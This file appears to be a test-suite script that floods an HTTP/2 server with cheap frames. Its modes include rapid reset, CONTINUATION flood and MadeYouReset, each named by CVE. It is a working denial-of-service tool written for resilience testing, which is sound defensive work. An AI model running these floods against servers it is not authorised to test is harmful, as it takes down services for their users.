import {
  callHeaders,
  FLAG,
  flagsOf,
  frame,
  literal,
  onConnections,
  preface,
  report,
  TYPE,
  written,
} from './attacker.mjs';

/**
 * Floods an HTTP/2 listener with frames of one kind, that cost the sender next to nothing:
 *
 *   node test/security/attackers/http2-flood.mjs --port 8081 --kind priority --seconds 20
 *
 * Kinds: priority, rapid-reset (CVE-2023-44487), settings, ping, continuation (CVE-2024-27316), empty-data, window-update,
 * headers (calls that are never answered for: unknown methods), reset-by-server (MadeYouReset, CVE-2025-8671: frames that
 * make the server reset its own streams).
 */
const flags = flagsOf({ kind: 'priority', connections: 4, path: '/vectron.v1.VectronService/Search' });
const BATCH = 500;
const block = callHeaders(flags.path);
const PRIORITY = Buffer.from([0, 0, 0, 0, 15]);
const CANCEL = Buffer.from([0, 0, 0, 8]);
const ZERO_WINDOW = Buffer.alloc(4);

/** Makes the frames of one batch; `stream()` is the next unused number of a stream. */
const KINDS = {
  priority: (stream) => frame(TYPE.priority, FLAG.none, stream(), PRIORITY),
  'rapid-reset': (stream) => {
    const id = stream();
    return Buffer.concat([frame(TYPE.headers, FLAG.endHeaders, id, block), frame(TYPE.reset, FLAG.none, id, CANCEL)]);
  },
  settings: () => frame(TYPE.settings, FLAG.none, 0, Buffer.from([0, 4, 0, 1, 0, 0])),
  ping: () => frame(TYPE.ping, FLAG.none, 0, Buffer.alloc(8)),
  'window-update': () => frame(TYPE.windowUpdate, FLAG.none, 0, Buffer.from([0, 0, 0, 1])),
  headers: (stream) => frame(TYPE.headers, FLAG.endHeaders | FLAG.endStream, stream(), callHeaders('/no/Such')),
  'reset-by-server': (stream) => {
    const id = stream();
    return Buffer.concat([
      frame(TYPE.headers, FLAG.endHeaders, id, block),
      frame(TYPE.windowUpdate, FLAG.none, id, ZERO_WINDOW),
    ]);
  },
};
/** What is sent once before the flood, on the one stream that the flood is about. */
const FIRST = {
  continuation: () => frame(TYPE.headers, FLAG.none, 1, block),
  'empty-data': () => frame(TYPE.headers, FLAG.endHeaders, 1, block),
};
const REST = {
  continuation: () => frame(TYPE.continuation, FLAG.none, 1, literal('x', 'y')),
  'empty-data': () => frame(TYPE.data, FLAG.none, 1),
};

report(
  await onConnections(flags, async (socket, over) => {
    let id = -1;
    const stream = () => {
      id += 2;
      return id;
    };
    const make = KINDS[flags.kind] ?? REST[flags.kind];
    if (make === undefined) throw new Error(`--kind ${flags.kind} is not known`);
    let sent = 0;
    await written(socket, preface());
    if (FIRST[flags.kind] !== undefined) await written(socket, FIRST[flags.kind]());
    while (!over() && id < 2 ** 31 - 2 * BATCH) {
      const batch = Buffer.concat(Array.from({ length: BATCH }, () => make(stream)));
      if (!(await written(socket, batch))) break;
      sent += BATCH;
      // The loop of this program has other connections to serve, too.
      await new Promise(setImmediate);
    }
    return sent;
  }),
);
